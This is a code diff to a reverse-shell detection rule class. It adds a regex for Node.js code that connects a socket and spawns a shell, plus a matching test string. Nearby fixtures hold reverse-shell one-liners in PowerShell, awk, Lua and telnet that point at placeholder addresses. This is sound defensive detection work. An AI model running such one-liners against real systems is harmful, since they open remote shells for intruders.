@@ -81,6 +81,8 @@ final class ReverseShellRules {
               .finds("\\bchild_process\\b[^\\x00]*\\bnet\\.(?:connect|createConnection|Socket)\\b")
               .finds(
                   "\\bspawn\\(\\s*\\\\?[\"'](?:/bin/)?(?:ba)?sh[^\\x00]*\\.connect\\([^\\x00]*\\.pipe\\(")
+              .finds(
+                  "\\brequire\\(\\s*\\\\?[\"']net\\\\?[\"']\\)[^\\x00]*\\.connect\\([^\\x00]*\\b(?:spawn|exec)[A-Za-z]*\\(\\s*\\\\?[\"'](?:/bin/)?(?:(?:ba|z|da)?sh|cmd|powershell)")
               .finds("/inet/tcp/0/[0-9A-Za-z.-]+/[0-9]{1,5}")
               .finds("\\bnet\\.Dial\\([^\\x00]*\\bexec\\.Command\\b")
               .finds("\\bTcpStream::connect\\([^\\x00]*\\bCommand::new\\(")
@@ -114,6 +116,7 @@ final class ReverseShellRules {
                   "$c=New-Object System.Net.Sockets.TCPClient('1.2.3.4',4);$s=$c.GetStream()",
                   "awk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4242\"}'",
                   "require('child_process'); var c=net.connect(4,'1.2.3.4')",
+                  "n=require('net');s=n.connect(4,'1.2.3.4');p=c.spawn('/bin/sh')",
                   "lua -e \"require('socket');t=socket.tcp();t:connect('1.2.3.4','9');os.execute('sh -i <&3')\"",
                   "telnet 1.2.3.4 80 | /bin/bash")
               .ignores(
